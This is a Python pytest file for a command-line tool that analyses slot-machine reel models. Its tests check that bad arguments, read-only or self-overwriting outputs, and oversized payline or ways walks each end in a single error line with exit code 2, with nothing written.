def test_missing_report_package_is_refused_before_the_solve(fmt, package, tmp_path, capsys, monkeypatch):
    """A format whose writer's package is not installed (no ``report`` extra) is one error line, exit 2,
    before any solve (the long work is made to fail loudly if it is reached) and with nothing written."""
    reached = guard_long_work(monkeypatch)
    for name in [m for m in sys.modules if m == f"analytic.reports.{fmt}" or m.split(".")[0] == package]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, package, None)  # `import package` now raises ModuleNotFoundError
    (tmp_path / "m.toml").write_text(TINY)
    out = tmp_path / "out"
    try:
        code = main(["report", str(tmp_path / "m.toml"), "--out", str(out), "--formats", f"md,{fmt}"])
    except ReachedLongWork:
        code = None
    assert reached == [], f"the long work ({reached[0]}) began before the missing package was reported"
    assert code == 2
    err = capsys.readouterr().err
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "--formats" in lines[0], err
    assert repr(package) in lines[0] and "analytic[report]" in lines[0], lines[0]
    assert not out.exists()


def test_save_law_dash_is_refused(tmp_path, capsys, monkeypatch):
    """``--save-law -`` would write a file named '-' in the working folder: refused, exit 2, nothing written."""
    (tmp_path / "m.toml").write_text(TINY)
    monkeypatch.chdir(tmp_path)
    assert main(["solve", "m.toml", "--save-law", "-"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and "--save-law" in err and err.count("\n") == 1, err
    assert not (tmp_path / "-").exists()


@pytest.mark.parametrize("name, argv", [
    ("t.toml", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/t.toml"]),
    ("law.json", ["solve", "{model}", "--save-law", "{tmp}/law.json"]),
    ("g.dot", ["graph", "{model}", "--feature", "fs", "--out", "{tmp}/g.dot"]),
    ("o/m.md", ["report", "{model}", "--out", "{tmp}/o", "--formats", "md,json"]),
])
def test_a_read_only_output_file_is_refused_and_kept(tmp_path, capsys, name, argv):
    """An output file made read-only (mode 0444) was replaced all the same (written beside and renamed: the
    rename needs only the folder's permission) and came back writable; refused before any work, kept."""
    game = tmp_path / "game"
    game.mkdir()
    (game / "m.toml").write_text(mech(""), encoding="utf-8")
    target = tmp_path / name
    target.parent.mkdir(exist_ok=True)
    target.write_text("kept")
    os.chmod(target, 0o444)
    code = main(_fill(argv, str(game / "m.toml"), tmp_path, tmp_path / "out"))
    err = capsys.readouterr().err
    assert code == 2 and "read-only" in err and len(err.splitlines()) == 1, err
    assert target.read_text() == "kept" and (os.stat(target).st_mode & 0o777) == 0o444


@pytest.mark.parametrize("csv_name, argv", [
    ("strips.csv", ["tune", "{model}", "--target-rtp", "90", "--out", "{tmp}/game/strips.csv"]),
    ("law.json", ["solve", "{model}", "--save-law", "{tmp}/game/law.json"]),
    ("g.dot", ["graph", "{model}", "--feature", "fs", "--out", "{tmp}/game/g.dot"]),
    ("m.json", ["report", "{model}", "--out", "{tmp}/game", "--formats", "md,json"]),
])
def test_an_output_onto_a_strip_file_of_the_model_is_refused(tmp_path, capsys, csv_name, argv):
    """``tune --out strips.csv`` (the CSV file the model reads its reels from) replaced the strips by the
    tuned model: the model no longer loaded ('has 5 strips'), nor did the tuned one.  Every output that is
    a file the model reads is refused before any work, the file kept."""
    game = tmp_path / "game"
    game.mkdir()
    (game / csv_name).write_text(GOOD_CSV)
    text = mech("").replace(
        'base = [["a", "b", "w", "s", "x"], ["a", "b", "b", "s", "x"], ["a", "b", "w", "s", "x"]]',
        f'base = {{ csv = "{csv_name}" }}')
    (game / "m.toml").write_text(text, encoding="utf-8")
    code = main(_fill(argv, str(game / "m.toml"), tmp_path, tmp_path / "out"))
    err = capsys.readouterr().err
    assert code == 2 and "reels.base" in err and len(err.splitlines()) == 1, err
    assert (game / csv_name).read_text() == GOOD_CSV


def test_a_target_between_1_and_2_says_how_to_write_a_percentage(tmp_path, capsys):
    """Found by a new user: '--target-hit-frequency 1.5' (meant: 1.5 %) was refused with 'must be
    above 0 % and at most 100 % (e.g. 94.5 or 0.945)', which 1.5 % is; a bare number is a
    percentage only above 2 (docs: README, tune), so the message says to write '1.5%'."""
    (tmp_path / "m.toml").write_text(TINY)
    code = main(["tune", str(tmp_path / "m.toml"), "--target-rtp", "90", "--target-hit-frequency", "1.5",
                 "--out", str(tmp_path / "o.toml")])
    assert code == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith("error: argument --target-hit-frequency:") and "write 1.5%" in line
    assert not (tmp_path / "o.toml").exists()


def _many_lines_model() -> str:
    """5 reels x 4 rows, 60 distinct paylines, every symbol paying 3 to 5 of a kind: its joint line walk
    holds thousands of entries an array (a few seconds at most)."""
    lines, x = [], 0
    while len(lines) < 60:
        x += 1
        line = [(x >> (2 * r)) % 4 for r in range(5)]
        if line not in lines:
            lines.append(line)
    strip = '["a", "b", "c", "w", "a", "b", "c", "x", "b", "c", "a", "x"]'
    return ('[game]\nname = "lines"\nreels = 5\nrows = 4\n[symbols]\na = "regular"\nb = "regular"\nc = "regular"\n'
            'w = "wild"\nx = "blank"\n[paytable]\na = { 3 = 5, 4 = 10, 5 = 50 }\nb = { 3 = 3, 4 = 8, 5 = 30 }\n'
            'c = { 3 = 2, 4 = 5, 5 = 20 }\n[paylines]\nlines = ' + str(lines) + '\n[reels]\nbase = ['
            + ", ".join([strip] * 5) + "]\n")


@pytest.mark.parametrize("compiled", [True, False])
def test_a_line_walk_beyond_its_entries_is_one_line_exit_2(tmp_path, capsys, monkeypatch, compiled):
    """20,000 paylines on a 5x100 window (a 430 KB model) grew the joint line walk past 17 GB of memory,
    then a ``SystemError`` traceback: every array of the walk is held to ``limits.MAX_WALK_ENTRIES``
    (lowered here so that a small game reaches it), in the compiled and the numpy steps."""
    import analytic.engine.linewalk as lw
    from analytic import limits

    m = tmp_path / "lines.toml"
    m.write_text(_many_lines_model())
    assert main(["solve", str(m), "--format", "json", "--workers", "1"]) == 0
    want = json.loads(capsys.readouterr().out)["modes"]
    monkeypatch.setattr(lw, "_KERNEL_MIN_WORK", 0 if compiled else 1 << 62)
    monkeypatch.setattr(lw, "_KERNEL_LOADED_MIN_WORK", 0 if compiled else 1 << 62)
    monkeypatch.setattr(limits, "MAX_WALK_ENTRIES", 3000)
    assert main(["solve", str(m), "--workers", "1"]) == 2
    cap = capsys.readouterr()
    lines = cap.err.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {m}: paylines: the exact walk of 60 paylines"), cap.err
    assert "3,000" in lines[0] and "Traceback" not in cap.err and not cap.out
    monkeypatch.setattr(limits, "MAX_WALK_ENTRIES", 10**8)  # the figures within the limit: the same
    assert main(["solve", str(m), "--format", "json", "--workers", "1"]) == 0
    assert json.loads(capsys.readouterr().out)["modes"] == want


@pytest.mark.parametrize("python_integers", [False, True])
def test_a_ways_walk_beyond_its_entries_is_one_line_exit_2(tmp_path, capsys, monkeypatch, python_integers):
    """A 7x50 ways game of 10 paying symbols (1 KB of model) ran a minute into a numpy MemoryError
    traceback (1.8 GiB for one array, 4 GB in all): the ways walk is held to ``limits.MAX_WALK_ENTRIES``
    too (lowered here so that a small game reaches it), on int64 arrays and on Python integers."""
    from analytic import limits

    m = ROOT / "tests" / "engine" / "data" / "ways_243_medium.toml"
    if python_integers:  # a pay beyond int64 arithmetic: the walk on Python integers
        text = m.read_text(encoding="utf-8")
        m = tmp_path / "ways.toml"
        m.write_text(text.replace("[paytable]\n", "[paytable]\nbig = { 5 = 1000000000000000000 }\n", 1)
                     .replace("[symbols]\n", '[symbols]\nbig = "regular"\n', 1), encoding="utf-8")
    monkeypatch.setattr(limits, "MAX_WALK_ENTRIES", 2000)
    assert main(["solve", str(m), "--workers", "1"]) == 2
    cap = capsys.readouterr()
    lines = cap.err.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {m}: paylines.ways: the exact ways walk"), cap.err
    assert "Traceback" not in cap.err and not cap.out
    monkeypatch.setattr(limits, "MAX_WALK_ENTRIES", 10**8)
    assert main(["solve", str(m), "--workers", "1"]) == 0
